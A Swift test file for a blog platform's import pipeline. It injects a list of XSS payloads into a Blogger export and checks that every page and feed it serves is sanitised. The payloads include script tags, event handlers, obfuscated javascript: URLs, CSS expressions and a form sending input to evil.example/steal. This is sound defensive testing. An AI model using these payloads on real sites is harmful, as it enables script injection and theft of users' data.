import Foundation
import HummingbirdTesting
import NewsdeskCore
import NewsdeskImport
import NewsdeskStore
import NewsdeskTestSupport
import Testing

/// A real Blogger export (google-blog-converters' 2008 sample) whose posts and comments are replaced by old
/// Blogger's own artefacts and hostile markup, imported, then read back through every page and feed format a
/// reader gets: nothing in any of them may be live.
@Suite("Imported posts reach readers cleaned, in every output")
struct ImportedMarkupSafetyTests {
    /// Old Blogger's photo links, and one attack of each kind the post allow-list must stop, with a handler
    /// on every element the allow-list keeps.
    static let hostileHTML: String = {
        var html = """
            <a onblur="try {parent.deselectBloggerImageGracefully();} catch(e) {}" \
            href="http://1.bp.blogspot.com/a.jpg"><img style="cursor:pointer; cursor:hand;width: 320px;" \
            src="http://1.bp.blogspot.com/s320/a.jpg" border="0" alt="" id="BLOGGER_PHOTO_ID_5" /></a>
            <script>alert('script')</script><svg><script>alert('svg')</script></svg><svg onload=alert(1)>
            <a href="jav&#x09;ascript:alert(1)">tab</a><a href="&#106;avascript:alert(2)">entity</a>
            <a href="  JaVaScRiPt:alert(3)">spaces</a><img src="javascript:alert(4)"><img src=x onerror=alert(5)>
            <p style="background:url(javascript:alert(6))">url</p><p style="width:expression(alert(7))">expr</p>
            <form action="https://evil.example/steal"><input name=q><button>go</button></form>
            <iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object><embed src="x.swf">
            <math><mi xlink:href="javascript:alert(8)">m</mi></math><a href="data:text/html,<script>x</script>">d</a>
            <video src="javascript:alert(9)"></video><audio src="vbscript:x"></audio>

            """
        for name in PostSanitizer.allowedElements.sorted() {
            html += "<\(name) onmouseover=\"alert('\(name)')\" onclick=alert(1) style=\"x:url(y)\">\(name)</\(name)>\n"
        }
        return html
    }()

    /// The sample export with every post's and comment's content replaced by `hostileHTML`.
    static func hostileExport() throws -> Data {
        let text = try Fixtures.text("blogger/google-blog-converters_blogger-sample2.xml")
        let escaped = hostileHTML.replacingOccurrences(of: "&", with: "&amp;")
            .replacingOccurrences(of: "<", with: "&lt;").replacingOccurrences(of: ">", with: "&gt;")
        let content = try NSRegularExpression(pattern: #"<content type="html">[^<]*</content>"#)
        let replaced = content.stringByReplacingMatches(
            in: text, range: NSRange(text.startIndex..., in: text),
            withTemplate: NSRegularExpression.escapedTemplate(for: "<content type=\"html\">\(escaped)</content>"))
        #expect(replaced != text)
        return Data(replaced.utf8)
    }

    @Test(
        "no page, listing, search result or feed (Atom, RSS, JSON) carries live markup")
    func everyOutput() async throws {
        let bundle = try BloggerReader.read(try Self.hostileExport())
        #expect(bundle.posts.count == 4 && bundle.comments.count == 3)
        let archive = ArchiveBuilder(timeZone: TimeZone(secondsFromGMT: 0)!).archive(from: bundle).archive
        try await withMemoryDemoApp { client, store in
            _ = try await store.importArchive(archive, options: .init()) { _, _ in }
            let posts = try await store.publishedPosts(.all, offset: 0, limit: 50)
            let imported = posts.filter { $0.bodyHTML.contains("deselectBloggerImageGracefully") }
            #expect(imported.count >= 3, "the raw imported HTML is stored as it was")
            var pages = ["/", "/search/label/Everything", "/search?q=mouseover", "/2008/", "/search?q=alert"]
            pages += imported.map(\.path)
            var feeds = [
                "/feeds/posts/default", "/feeds/posts/default?alt=rss", "/feeds/posts/default?alt=json",
                "/feeds/posts/summary", "/feeds/posts/default/-/Everything", "/feeds/comments/default", "/atom.xml",
                "/rss.xml", "/feed.json",
            ]
            feeds += imported.compactMap { $0.id.map { "/feeds/\($0)/comments/default" } }
            for path in pages {
                let response = try await client.execute(uri: path, method: .get)
                #expect(response.status == .ok, "\(path)")
                #expect(LiveMarkupCheck.findings(in: response.text) == [], "\(path)")
            }
            var checkedContents = 0
            for path in feeds {
                let response = try await client.execute(uri: path, method: .get)
                #expect(response.status == .ok, "\(path)")
                for html in try LiveMarkupCheck.feedHTML(response.text) {
                    checkedContents += 1
                    #expect(LiveMarkupCheck.findings(in: html) == [], "\(path)")
                }
            }
            #expect(checkedContents > 20)
            // The check itself finds what it must: the raw stored HTML is full of it.
            #expect(LiveMarkupCheck.findings(in: Self.hostileHTML).count > 40)
        }
    }
}
